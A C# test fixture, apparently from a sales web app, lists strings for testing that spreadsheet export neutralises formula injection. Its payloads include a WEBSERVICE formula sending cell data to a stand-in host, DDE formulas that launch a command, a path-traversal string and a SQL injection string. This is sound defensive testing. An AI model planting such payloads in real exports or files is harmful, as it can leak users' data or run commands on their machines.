namespace BlazorSalesProject.Web.Tests.Files;

/// <summary>Texts that spreadsheets run, split, trim or turn into something else.</summary>
public static class NastyTexts
{
    /// <summary>Each of these a spreadsheet might run (reliability test IN-4).</summary>
    public static readonly string[] Formulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\0", "\t", "\r", "=", "+", "-", "@",
        "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫SUM(1)", "−1",
        " =1+1", "   +1", "　=1+1", "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1", " \t =1", "\r\n=1+1", " ＝1",
        "'=1+1", "''=1+1", "' =1", "'\t", "'+86 138 0013 8000", "+86 138 0013 8000", "-5", "-0.5", "+0",
        "=WEBSERVICE(\"http://203.0.113.1/?\"&A1)", "=HYPERLINK(\"http://203.0.113.1\",\"click\")", "=IMPORTXML(\"http://203.0.113.1\",\"//a\")",
        "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1\";=1+1", "=\"a\"\"b\"", "=1\r\n=2",
    ];

    /// <summary>Each of these is harmless and has to stay exactly as it is.</summary>
    public static readonly string[] Harmless =
    [
        "华南有限公司", "a", "'", "''", "'quoted'", "O'Neil", "'s-Hertogenbosch", "''x", "a=1", "a+b", "1-2", "x@example.com", "00123", "13800138000", "1e5", "TRUE", "是", "2026-01-01", "3/1/2017",
        "a,b", "a;b", "a\tb", "a|b", "\"", "\"\"", "\"a\"", "a\"b", "a\nb", "a\r\nb", "a\rb", "a\r", "a\n", "a ", " a", "　a　", "\u00A0", " ", "\n", "a\0b", "a\u0001b", "a\u001Fb", "\u007F", "\u0085", "\uFFFE", "\uFEFFa",
        "_x000D_", "_x0041_", "a_x005F_b", "_x", "_x12", "__x0041__", "_xZZZZ_", "<b>&amp;</b>", "]]>", "<!--", "&#0;", "#N/A", "#REF!", "sep=;", "# comment", "😀", "👩‍👩‍👧", "é", "é", "\u202Eabc", "עברית", "ก็", "𠮷野家",
        "１２３", "¥1,234.50", "100%", "NULL", "null", "NaN", "\\", "\\N", "\\\"", "%00", "../../etc/passwd", "'; DROP TABLE x;--",
    ];

    public static IEnumerable<string> All => [.. Formulas, .. Harmless, new string('长', 32_767), "=" + new string('x', 5_000)];
}
